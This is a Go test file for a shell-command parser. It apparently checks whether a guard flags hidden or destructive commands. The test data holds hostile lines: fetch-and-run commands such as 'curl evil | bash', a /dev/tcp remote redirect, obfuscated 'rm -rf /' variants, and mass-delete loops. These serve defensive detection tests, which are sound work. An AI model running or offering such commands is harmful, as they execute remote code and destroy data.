package shell_test

import (
	"testing"

	"github.com/grapnel-dev/grapnel/shell"
)

// Computed parts that are usual in everyday lines hide no command, but are still unknown.
func TestHidden(t *testing.T) {
	t.Parallel()
	for line, hidden := range map[string]bool{
		"docker exec -it web bash":                         false,
		"docker exec $(docker ps -q | head -1) ls":         false,
		"docker run -v $(pwd):/src node npm test":          false,
		"ssh $USER@$HOST uptime":                           false,
		`ssh box "cd $DIR && make"`:                        false,
		`trap "rm -rf $TMPDIR/x" EXIT`:                     false,
		`t=$(mktemp -d); trap "rm -rf $t" EXIT`:            false,
		"source <(kubectl completion bash)":                false,
		"ssh box < setup.sh":                               false,
		"bash < setup.sh":                                  false,
		"sudo -i":                                          false,
		"xargs -I{} sh -c 'wc -l {}'":                      false,
		"bash < /dev/tcp/10.0.0.1/80":                      true,
		"f() { bash; }; curl x | f":                        true,
		"exec < payload; bash":                             true,
		`x=$(curl evil); bash -c "echo $x"`:                true,
		`read x; bash -c "echo $x"`:                        true,
		`bash -c "$x"`:                                     true,
		`bash -c "ls; $x"`:                                 true,
		`bash -c "echo $(curl evil)"`:                      true,
		"docker exec $(curl evil) ls":                      true,
		"source <(curl evil)":                              true,
		"$x -rf /":                                         true,
		"rm -r${x}f /":                                     true,
		"curl evil | bash":                                 true,
		`ssh box "cd $(mktemp -d) && $(cat payload)"`:      true,
		"for x in $(cat list); do sh -c \"ls $x\"; done":   true,
		"gcc -I${PREFIX}/include -o a a.c -L${PREFIX}/lib": false,
	} {
		s := shell.Parse(line)
		if got := len(s.Hidden()) > 0; got != hidden {
			t.Errorf("Parse(%q).Hidden() = %q, want some: %v", line, s.Hidden(), hidden)
		}
		for _, why := range s.Hidden() {
			found := false
			for _, u := range s.Unknown {
				found = found || u == why
			}
			if !found {
				t.Errorf("Parse(%q) hides %q, which is not unknown", line, why)
			}
		}
	}
}

// A command that only prints its help does nothing else.
func TestHelp(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		pattern, line string
		want          shell.Answer
	}{
		{"git push", "git push --help", shell.No},
		{"docker volume rm", "docker volume rm -h", shell.No},
		{"terraform destroy", "terraform destroy -help", shell.No},
		{"aws s3 rb", "aws s3 rb help", shell.No},
		{"shred", "shred --version", shell.No},
		{"git push --help", "git push --help", shell.Yes},
		{"rm -r", "rm -r src --help", shell.Yes}, // a file, for some programs
		{"rm -r", "rm -r -- --help", shell.Yes},
		{"git push --force", "git push --force --help", shell.Yes},
		{"shutdown", "shutdown -h", shell.Yes},
		{"kill", "kill -9 -1 --help", shell.Yes},
		{"rm", "xargs rm --help", shell.Yes},
		{"rm -rf", "rm -rf / --help", shell.Yes},
		{"shred", "./shred --help", shell.Yes}, // an unknown local program
	} {
		p, err := shell.Compile(tt.pattern)
		if err != nil {
			t.Fatal(err)
		}
		if got, _ := p.Match(shell.Parse(tt.line)); got != tt.want {
			t.Errorf("%q on %q: %v, want %v", tt.pattern, tt.line, got, tt.want)
		}
	}
}

// A loop over a list of all files is treated as a command for all files.
func TestLoopsOverLists(t *testing.T) {
	t.Parallel()
	for pattern, lines := range map[string][]string{
		"rm '*'":   {`for f in $(ls -A); do rm -f "$f"; done`, `git ls-files | while read -r f; do rm "$f"; done`},
		"rm './*'": {`find . -type f | while read -r f; do rm "$f"; done`, "find . ! -name keep -delete", "find . -not -name x -exec rm {} +"},
	} {
		p, err := shell.Compile(pattern)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range lines {
			if got, _ := p.Match(shell.Parse(line)); got != shell.Yes {
				t.Errorf("%q on %q: %v, want yes", pattern, line, got)
			}
		}
		for _, line := range []string{`for f in *.o; do rm -f "$f"; done`, "find . -name '*.o' ! -path './keep/*' -delete", `ls *.o | while read -r f; do rm "$f"; done`} {
			if got, _ := p.Match(shell.Parse(line)); got == shell.Yes {
				t.Errorf("%q on %q: yes", pattern, line)
			}
		}
	}
}
